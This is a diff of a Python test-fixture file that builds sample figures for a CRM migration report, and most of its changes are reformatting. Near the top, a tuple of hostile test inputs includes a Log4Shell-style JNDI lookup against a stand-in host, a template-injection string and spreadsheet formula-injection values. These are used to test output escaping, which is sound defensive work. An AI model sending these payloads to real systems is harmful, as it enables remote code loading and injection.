@@ -35,7 +35,19 @@ LONG = "çok uzun bir açıklama " * 5_000
 TEMPLATE = "{{ 7 * 7 }} {% include 'x' %} ${jndi:ldap://x.example/a}"
 HOSTILE = (SCRIPT, IMAGE, BREAKOUT, FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", RIGHT_TO_LEFT, CONTROLS, LONG, TEMPLATE)
 
-STATES = ("created", "updated", "unchanged", "folded", "merged", "enrichment", "absent", "excluded", "rejected", "held", "failed")
+STATES = (
+    "created",
+    "updated",
+    "unchanged",
+    "folded",
+    "merged",
+    "enrichment",
+    "absent",
+    "excluded",
+    "rejected",
+    "held",
+    "failed",
+)
 NAMES = ("Ayşe Yılmaz", "İbrahim Işık", "Jürgen Groß", "Zoë Müller-Lüdenscheidt", "Dewi", "Şükrü Öztürk")
 
 
@@ -94,8 +106,8 @@ def figures(*, locale: str = "en", hostile: bool = True, run: str = "2025-03-14T
         mapping_hash="sha256:" + "11ab" * 16,
         decisions_hash="sha256:" + "77e0" * 16,
         verdict="GO WITH ACCEPTED EXCEPTIONS",
-        sentence="Of 18,412 source rows, 17,903 arrived, 311 were merged, 140 were left out by decision, 46 were rejected "
-        "and 12 wait for you. Every euro is explained.",
+        sentence="Of 18,412 source rows, 17,903 arrived, 311 were merged, 140 were left out by decision, "
+        "46 were rejected and 12 wait for you. Every euro is explained.",
         sources=_sources(hostile),
         accounting=_accounting(),
         target_sets=_target_sets(),
@@ -111,25 +123,52 @@ def figures(*, locale: str = "en", hostile: bool = True, run: str = "2025-03-14T
         owners=(("Ayşe Y.", "ayse.yilmaz@anadolu.example", 812), ("Former employee", "migration fallback", 37)),
         gates=_gates(),
         scores=_scores(),
-        decisions=(("D-004", "data_steward", "2025-03-10", "Deals closed before 2015 stay behind" + (f" {IMAGE}" if hostile else ""), 140),),
+        decisions=(
+            (
+                "D-004",
+                "data_steward",
+                "2025-03-10",
+                "Deals closed before 2015 stay behind" + (f" {IMAGE}" if hostile else ""),
+                140,
+            ),
+        ),
         sign_off=("sales_director", "data_steward", "migration_lead"),
-        not_checked=("Attachments were not compared.", "Field `notes` is write-only in the target." + (f" {BREAKOUT}" if hostile else "")),
+        not_checked=(
+            "Attachments were not compared.",
+            "Field `notes` is write-only in the target." + (f" {BREAKOUT}" if hostile else ""),
+        ),
     )
 
 
 def _sources(hostile: bool) -> tuple[SourceFigure, ...]:
     return (
         SourceFigure(
-            source="sheet", path="musteriler.csv", sha256="ab" * 32, bytes=1_482_117, records=12_000, quarantined=3,
-            counted=12_003, count_method="quote-parity scan of the bytes", encoding="windows-1254", delimiter=";",
-            evidence=("Tarih: day first (12,000 of 12,000 values)",), unmapped_columns=("Notlar 2",),
+            source="sheet",
+            path="musteriler.csv",
+            sha256="ab" * 32,
+            bytes=1_482_117,
+            records=12_000,
+            quarantined=3,
+            counted=12_003,
+            count_method="quote-parity scan of the bytes",
+            encoding="windows-1254",
+            delimiter=";",
+            evidence=("Tarih: day first (12,000 of 12,000 values)",),
+            unmapped_columns=("Notlar 2",),
             dropped_columns={"Eski kod": FORMULA if hostile else "no longer used"},
         ),
         SourceFigure(
-            source="legacy", path="crm.contacts", sha256="cd" * 32, bytes=9_001, records=6_412, quarantined=0, counted=None,
-            count_method="none: one snapshot of a table", archived_columns=("fax",),
+            source="legacy",
+            path="crm.contacts",
+            sha256="cd" * 32,
+            bytes=9_001,
+            records=6_412,
+            quarantined=0,
+            counted=None,
+            count_method="none: one snapshot of a table",
+            archived_columns=("fax",),
         ),
-    )  # fmt: skip
+    )
 
 
 def _accounting() -> tuple[AccountingLine, ...]:
@@ -144,118 +183,290 @@ def _accounting() -> tuple[AccountingLine, ...]:
 def _target_sets() -> tuple[TargetSet, ...]:
     return (
         TargetSet(
-            object="contacts", before=712, after=17_905, created=17_190, updated=112, unchanged=600, unexpected=3, vanished=0,
+            object="contacts",
+            before=712,
+            after=17_905,
+            created=17_190,
+            updated=112,
+            unchanged=600,
+            unexpected=3,
+            vanished=0,
             unexpected_ids=("0031", "0032", "0033"),
         ),
-        TargetSet(object="deals", before=0, after=1_247, created=1_247, updated=0, unchanged=0, unexpected=0, vanished=0),
-    )  # fmt: skip
+        TargetSet(
+            object="deals", before=0, after=1_247, created=1_247, updated=0, unchanged=0, unexpected=0, vanished=0
+        ),
+    )
 
 
 def _bridges() -> tuple[Bridge, ...]:
     return (
         Bridge(
-            object="deals", measure="amount", currency="EUR", source_total="186420.50", source_lines=1_256,
+            object="deals",
+            measure="amount",
+            currency="EUR",
+            source_total="186420.50",
+            source_lines=1_256,
             terms=(
-                Term(name="excluded", amount="-112500.00", lines=1, examples=(Example(record="sheet:17", source="112500.00", personal=False),)),
+                Term(
+                    name="excluded",
+                    amount="-112500.00",
+                    lines=1,
+                    examples=(Example(record="sheet:17", source="112500.00", personal=False),),
+                ),
                 Term(name="held", amount="-6300.00", lines=8),
                 Term(name="rounding", amount="0.00", lines=0),
             ),
-            target_total="67620.50", target_lines=1_247, unexplained="0.00",
+            target_total="67620.50",
+            target_lines=1_247,
+            unexplained="0.00",
         ),
         Bridge(
-            object="deals", measure="amount", currency="TRY", source_total="-1250000.5", source_lines=3,
-            terms=(Term(name="fx", amount="1250100.75", lines=3),), target_total="100.25", target_lines=3,
-            unexplained="0.00", unreadable=2,
+            object="deals",
+            measure="amount",
+            currency="TRY",
+            source_total="-1250000.5",
+            source_lines=3,
+            terms=(Term(name="fx", amount="1250100.75", lines=3),),
+            target_total="100.25",
+            target_lines=3,
+            unexplained="0.00",
+            unreadable=2,
         ),
-    )  # fmt: skip
+    )
 
 
 def _fields(hostile: bool) -> tuple[FieldFigure, ...]:
     shifted = tuple(
-        Example(record=f"sheet:{i}", source="05.03.2025", expected="2025-03-05", actual="2025-03-04", message="one day early", personal=False)
+        Example(
+            record=f"sheet:{i}",
+            source="05.03.2025",
+            expected="2025-03-05",
+            actual="2025-03-04",
+            message="one day early",
+            personal=False,
+        )
         for i in range(36)
     )
     return (
         FieldFigure(
-            object="deals", field="close_date", type="date", records=1_247, compared=1_240, matched=1_204,
+            object="deals",
+            field="close_date",
+            type="date",
+            records=1_247,
+            compared=1_240,
+            matched=1_204,
             classes={"match": 1_204, "different": 36, "both_empty": 7},
-            causes=(Cause(cause="shifted_day", cls="different", count=36, fix="Send date-only values, or 12:00.", examples=shifted),),
+            causes=(
+                Cause(
+                    cause="date -1 day",
+                    cls="different",
+                    count=36,
+                    fix="Send date-only values, or 12:00.",
+                    examples=shifted,
+                ),
+            ),
             changed_from_source=1_240,
         ),
         FieldFigure(
-            object="contacts", field="full_name", type="person_name", records=17_902, compared=17_902, matched=17_702,
-            classes={"match": 17_000, "normalised": 702, "different": 150, "lost": 50},
+            object="contacts",
+            field="full_name",
+            type="person_name",
+            records=17_902,
+            compared=17_902,
+            matched=17_702,
+            classes={"match": 17_000, "match_normalised": 702, "different": 150, "lost": 50},
             causes=(
-                Cause(cause="encoding", cls="different", count=150, fix="Send UTF-8.", examples=examples(7, 50) if hostile else examples(7, 2)),
-                Cause(cause="lost", cls="lost", count=50, examples=(Example(record="sheet:9", source="Ayşe", expected="Ayşe", actual=None),)),
+                Cause(
+                    cause="encoding",
+                    cls="different",
+                    count=150,
+                    fix="Send UTF-8.",
+                    examples=examples(7, 50) if hostile else examples(7, 2),
+                ),
+                Cause(
+                    cause="lost",
+                    cls="lost",
+                    count=50,
+                    examples=(Example(record="sheet:9", source="Ayşe", expected="Ayşe", actual=None),),
+                ),
             ),
         ),
         FieldFigure(
-            object="contacts", field="email", type="email", records=17_902, compared=17_100, matched=17_100,
-            classes={"match": 17_100, "both_empty": 802}, flags={"shared_mailbox": 12},
+            object="contacts",
+            field="email",
+            type="email",
+            records=17_902,
+            compared=17_100,
+            matched=17_100,
+            classes={"match": 17_100, "both_empty": 802},
+            flags={"shared_mailbox": 12},
         ),
-        FieldFigure(object="deals", field="stage", type="choice", records=12, compared=12, matched=12, classes={"match": 12}),
-    )  # fmt: skip
+        FieldFigure(
+            object="deals", field="stage", type="choice", records=12, compared=12, matched=12, classes={"match": 12}
+        ),
+    )
 
 
 def _links() -> tuple[LinkFigure, ...]:
     return (
-        LinkFigure(object="contacts", field="account", parent="accounts", expected=17_300, present=17_300, missing=0, wrong=0, extra=0, orphans=0),
         LinkFigure(
-            object="deals", field="contact", parent="contacts", expected=1_247, present=1_244, missing=1, wrong=2, extra=1,
-            orphans=4, examples=(Example(record="sheet:88", expected="e-00017", actual="e-00018", personal=False),),
+            object="contacts",
+            field="account",
+            parent="accounts",
+            expected=17_300,
+            present=17_300,
+            missing=0,
+            wrong=0,
+            extra=0,
+            orphans=0,
         ),
-    )  # fmt: skip
+        LinkFigure(
+            object="deals",
+            field="contact",
+            parent="contacts",
+            expected=1_247,
+            present=1_244,
+            missing=1,
+            wrong=2,
+            extra=1,
+            orphans=4,
+            examples=(Example(record="sheet:88", expected="e-00017", actual="e-00018", personal=False),),
+        ),
+    )
 
 
 def _kpis() -> tuple[KpiFigure, ...]:
     return (
-        KpiFigure(name="open_pipeline", group="proposal", unit="EUR", source="70000.50", expected="67620.50", actual="67620.50", agrees=True),
-        KpiFigure(name="open_pipeline", group="qualified", unit="EUR", source=None, expected="0", actual="0", agrees=True),
-        KpiFigure(name="mailable_people", group="", unit="", source="9120", expected="9118", actual="9117", agrees=False),
+        KpiFigure(
+            name="open_pipeline",
+            group="proposal",
+            unit="EUR",
+            source="70000.50",
+            expected="67620.50",
+            actual="67620.50",
+            agrees=True,
+        ),
+        KpiFigure(
+            name="open_pipeline", group="qualified", unit="EUR", source=None, expected="0", actual="0", agrees=True
+        ),
+        KpiFigure(
+            name="mailable_people", group="", unit="", source="9120", expected="9118", actual="9117", agrees=False
+        ),
     )
 
 
 def _controls() -> tuple[ControlFigure, ...]:
     return (
         ControlFigure(
-            name="open_pipeline", said="186420.50", unit="EUR", said_by="sales_director", of="source", expected="186420.50",
-            actual="186420.50", agrees=True,
+            name="open_pipeline",
+            said="186420.50",
+            unit="EUR",
+            said_by="sales_director",
+            of="source",
+            expected="186420.50",
+            actual="186420.50",
+            agrees=True,
         ),
-    )  # fmt: skip
+    )
 
 
 def _exceptions(hostile: bool) -> tuple[ExceptionGroup, ...]:
-    def group(code: str, severity: str, name: str, field: str, state: str, count: int, title: str, fix: str) -> ExceptionGroup:
+    def group(
+        code: str, severity: str, name: str, field: str, state: str, count: int, title: str, fix: str
+    ) -> ExceptionGroup:
         return ExceptionGroup.model_validate(
             {
-                "code": code, "severity": severity, "object": name, "source": "sheet", "field": field, "rule": f"{name}.{field}",
-                "state": state, "count": count, "title": title, "fix": fix,
+                "code": code,
+                "severity": severity,
+                "object": name,
+                "source": "sheet",
+                "field": field,
+                "rule": f"{name}.{field}",
+                "state": state,
+                "count": count,
+                "title": title,
+                "fix": fix,
                 "examples": examples(count, min(count, 50 if hostile else 3)),
             }
-        )  # fmt: skip
+        )
 
     return (
-        group("phone_no_country", "warning", "contacts", "phone", "", 380, "A phone number names no country.", "Set `region:`."),
-        group("value_unmapped", "error", "deals", "stage", "held", 8, "A value has no translation in its value map.", "Add it to the map."),
-        group("bad_email", "error", "contacts", "email", "rejected", 44, f"No address: {IMAGE}" if hostile else "No address.", FORMULA if hostile else "Mend it."),
-        group("duplicate_review", "warning", "contacts", "", "held", 12, "Two records may be one person.", "crm-migrate review"),
-        group("excluded_rule", "note", "contacts", "", "excluded", 98, "Left out by a rule of the mapping.", "Nothing, if the rule is right."),
+        group(
+            "phone_no_country",
+            "warning",
+            "contacts",
+            "phone",
+            "",
+            380,
+            "A phone number names no country.",
+            "Set `region:`.",
+        ),
+        group(
+            "value_unmapped",
+            "error",
+            "deals",
+            "stage",
+            "held",
+            8,
+            "A value has no translation in its value map.",
+            "Add it to the map.",
+        ),
+        group(
+            "bad_email",
+            "error",
+            "contacts",
+            "email",
+            "rejected",
+            44,
+            f"No address: {IMAGE}" if hostile else "No address.",
+            FORMULA if hostile else "Mend it.",
+        ),
+        group(
+            "duplicate_review",
+            "warning",
+            "contacts",
+            "",
+            "held",
+            12,
+            "Two records may be one person.",
+            "crm-migrate review",
+        ),
+        group(
+            "excluded_rule",
+            "note",
+            "contacts",
+            "",
+            "excluded",
+            98,
+            "Left out by a rule of the mapping.",
+            "Nothing, if the rule is right.",
+        ),
     )
 
 
 def _merges() -> tuple[MergeFigure, ...]:
     return (
-        MergeFigure(object="contacts", rule="same_email", outcome="merge", pairs=290, records=601, examples=(Example(record="sheet:4", expected="ayse@anadolu.example", message="same e-mail"),)),
+        MergeFigure(
+            object="contacts",
+            rule="same_email",
+            outcome="merge",
+            pairs=290,
+            records=601,
+            examples=(Example(record="sheet:4", expected="ayse@anadolu.example", message="same e-mail"),),
+        ),
         MergeFigure(object="contacts", rule="similar_name_and_phone", outcome="review", pairs=12, records=24),
         MergeFigure(object="contacts", rule="different_birth_date", outcome="vetoed", pairs=3, records=6),
-    )  # fmt: skip
+    )
 
 
 def _clusters(hostile: bool) -> tuple[MergedCluster, ...]:
     return (
         MergedCluster(
-            object="contacts", cluster="17", members=("sheet:4", "legacy:901"), why=("same_email: ayse@anadolu.example",),
+            object="contacts",
+            cluster="17",
+            members=("sheet:4", "legacy:901"),
+            why=("same_email: ayse@anadolu.example",),
             cells=(
                 ("full_name", "Ayşe Yılmaz", "sheet:4", "most_complete"),
                 ("email", "ayse@anadolu.example", "legacy:901", "trust"),
@@ -263,7 +474,7 @@ def _clusters(hostile: bool) -> tuple[MergedCluster, ...]:
                 ("stage", SCRIPT if hostile else "new", "sheet:4", "trust"),
             ),
         ),
-    )  # fmt: skip
+    )
 
 
 def _consent() -> tuple[ConsentCell, ...]:
@@ -280,8 +491,15 @@ def _gates() -> tuple[Gate, ...]:
     return (
         Gate(name="unexplained", scope="", limit="0", actual="0", passed=True),
         Gate(name="field_match", scope="contacts.email", limit="100 %", actual="100 % (17100 of 17100)", passed=True),
-        Gate(name="rejected", scope="contacts", limit="0.2 %", actual="0.25 % (46 of 18429)", passed=False, accepted="D-004"),
-        Gate(name="held", scope="deals", limit="0", actual="8", passed=False),
+        Gate(
+            name="rejected",
+            scope="contacts",
+            limit="0.2 %",
+            actual="0.25 % (46 of 18429)",
+            passed=False,
+            accepted="D-004",
+        ),
+        Gate(name="held", scope="deals", limit="0", actual="8", passed=False, accepted="D-010"),
         Gate(name="orphans", scope="", limit="0", actual="4", passed=False, accepted="D-009"),
     )
 
